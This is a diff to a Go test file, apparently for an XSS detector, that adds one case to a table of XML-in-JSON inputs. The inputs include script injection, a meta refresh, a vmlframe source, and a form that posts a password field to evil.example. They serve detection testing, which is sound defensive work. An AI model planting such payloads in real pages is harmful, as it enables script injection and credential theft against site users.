@@ -52,6 +52,7 @@ func TestXMLDocumentsInStrings(t *testing.T) {
 		{"a script in such a document", jsonBody(`<note><script>alert(1)</script></note>`), XSS, ""},
 		{"a form posting elsewhere in such a document", jsonBody(`<note><form action="https://evil.example/steal"><input name="pw"/></form></note>`), XSS, ""},
 		{"a meta refresh in such a document", jsonBody(`<note><meta http-equiv="refresh" content="0;url=https://evil.example/"/></note>`), XSS, ""},
+		{"a root the XSS rules read as a tag is markup for a browser", jsonBody(`<vmlframe src="https://evil.example/x.vml#xss"></vmlframe>`), XSS, "body.message"},
 		{"an HTML root is markup for a browser", jsonBody(`<html><body><form action="https://evil.example/"></form></body></html>`), XSS, "body.message"},
 		{"a root that does not end the string is text", jsonBody(`<note>hi</note><form action="https://evil.example/"></form>`), XSS, "body.message"},
 		{"XML Events is markup for a browser", jsonBody(`<listener event="load" handler="#y" xmlns="http://www.w3.org/2001/xml-events" observer="x"/>`), XSS, "body.message"},
